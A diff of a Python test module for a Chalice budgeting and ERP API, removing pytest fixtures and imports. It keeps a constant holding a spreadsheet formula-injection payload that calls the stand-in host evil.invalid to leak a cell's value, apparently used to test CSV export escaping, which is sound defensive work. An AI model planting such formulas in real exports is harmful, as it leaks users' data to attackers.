@@ -6,16 +6,11 @@ from __future__ import annotations
 import csv
 import io
 import json
-from collections.abc import Iterator
 from decimal import Decimal
 from typing import Any
 
-import pytest
 from chalice.test import Client
-from moto import mock_aws
 
-from app import app
-from chalicelib import wiring
 from chalicelib.domain.model import (
     ChangeKind,
     ChangeRecord,
@@ -25,26 +20,11 @@ from chalicelib.domain.model import (
     utc_now,
 )
 from tests.fixtures.domain import commit_as_worker
-from tests.integration.api_support import World, budget_user, build_world, erp_user
+from tests.integration.api_support import World, budget_user, erp_user
 
 P = "/api/v1/companies/demo/projects/p-1001"
 ERP = "/api/v1/companies/demo/erp"
 HYPERLINK = '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click")'
-
-
-@pytest.fixture(params=["memory", "moto"])
-def world(request: pytest.FixtureRequest) -> Iterator[World]:
-    with pytest.MonkeyPatch.context() as env, mock_aws():
-        env.setenv("AWS_DEFAULT_REGION", "us-east-1")
-        yield build_world(request.param)
-
-
-@pytest.fixture
-def client(world: World) -> Iterator[Client]:
-    wiring.use_ports(world.ports)
-    with Client(app) as test_client:
-        yield test_client
-    wiring.use_ports(None)
 
 
 def get(client: Client, world: World, path: str, who: str = budget_user("read_only")) -> Any:
